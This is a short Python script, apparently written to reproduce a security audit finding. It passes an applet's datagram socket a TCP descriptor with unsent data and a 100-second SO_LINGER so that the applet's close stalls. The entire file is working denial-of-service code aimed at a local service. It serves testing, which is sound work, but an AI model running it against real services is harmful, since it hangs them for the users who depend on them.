#!/usr/bin/python3
"""linger_attack.py PATH - the audit's stalled-close attack on an applet's socket.

Makes a TCP connection on loopback whose peer never reads, fills it until the socket has
unsent data, sets SO_LINGER {1, 100 s} on it and hands it to the datagram socket at PATH
as a well-formed hand-off (payload "\\0", one descriptor), then closes its own copy (stop
the receiver meanwhile: only the last close of the socket waits). An
applet that closes such a socket plainly waits up to 100 s for data that can never leave.
The peer stays open (so the window stays shut) until a line or EOF arrives on stdin.
Prints "sent" once the hand-off is out.
"""
import socket
import struct
import sys


def main():
    path = sys.argv[1]
    lst = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    lst.bind(("127.0.0.1", 0))
    lst.listen(1)
    c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    c.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 65536)
    c.connect(lst.getsockname())
    peer, _ = lst.accept()
    peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    c.setblocking(False)
    sent = 0
    while True:
        try:
            sent += c.send(b"x" * 65536)
        except BlockingIOError:
            break
    c.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 100))
    tx = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    tx.connect(path)  # Python 3.11's send_fds ignores its address argument
    socket.send_fds(tx, [b"\0"], [c.fileno()])
    # The copy in flight holds the socket: this close is not the last and returns at
    # once. (The receiver must not have taken it yet, or its close would not be the last.)
    c.close()
    print("sent (%d bytes queued)" % sent, flush=True)
    sys.stdin.readline()
    peer.close()


if __name__ == "__main__":
    sys.exit(main())
